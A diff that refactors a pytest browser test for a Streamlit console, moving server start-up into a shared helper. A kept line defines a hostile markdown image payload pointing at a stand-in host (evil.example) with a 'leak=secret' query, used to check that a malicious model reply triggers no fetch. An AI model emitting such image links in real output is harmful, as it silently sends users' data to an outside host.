@@ -7,16 +7,13 @@ The console runs against a simulator of this test's own, scripted to echo the pr
 from __future__ import annotations
 
 import json
-import os
-import subprocess
-import sys
 import time
 import urllib.request
 
 import pytest
 
 from core.simulator import Simulator
-from tests.e2e.test_console_browser import CHROMIUM, ROOT, WAIT, _free_port, _need_browser, shot
+from tests.e2e.test_console_browser import CHROMIUM, WAIT, _need_browser, running_console, shot
 
 pytestmark = pytest.mark.browser
 HOSTILE = ("Report ![chart](https://evil.example/pixel.png?leak=secret) "
@@ -35,30 +32,9 @@ def console(tmp_path_factory, sim):
     """`streamlit run server.py` in demo mode, calling this module's simulator."""
     _need_browser()
     tmp = tmp_path_factory.mktemp("console")
-    port = _free_port()
-    env = {k: v for k, v in os.environ.items() if not k.startswith(("ANTHROPIC_", "TOLLGATE_"))}
-    env.update(ANTHROPIC_BASE_URL=sim.url, TOLLGATE_LEDGER_URL=f"duckdb:///{tmp / 'ledger.duckdb'}",
-               TOLLGATE_SPOOL_PATH=str(tmp / "spool"), TOLLGATE_USERS_FILE=str(tmp / "users.yaml"))
-    proc = subprocess.Popen([sys.executable, "-m", "streamlit", "run", "server.py", "--server.port", str(port),
-                             "--server.headless", "true", "--server.address", "127.0.0.1"],
-                            cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
-    url = f"http://127.0.0.1:{port}"
-    deadline = time.monotonic() + 60
-    while time.monotonic() < deadline:
-        try:
-            if urllib.request.urlopen(url + "/_stcore/health", timeout=1).status == 200:
-                break
-        except OSError:
-            time.sleep(0.3)
-    else:
-        proc.kill()
-        pytest.fail("the console did not start: " + proc.stdout.read().decode(errors="replace")[-2000:])
-    yield url
-    proc.terminate()
-    try:
-        proc.wait(timeout=10)
-    except subprocess.TimeoutExpired:
-        proc.kill()
+    with running_console(ANTHROPIC_BASE_URL=sim.url, TOLLGATE_LEDGER_URL=f"duckdb:///{tmp / 'ledger.duckdb'}",
+                         TOLLGATE_SPOOL_PATH=str(tmp / "spool"), TOLLGATE_USERS_FILE=str(tmp / "users.yaml")) as url:
+        yield url
 
 
 def test_a_hostile_reply_makes_the_browser_fetch_nothing(console, sim):
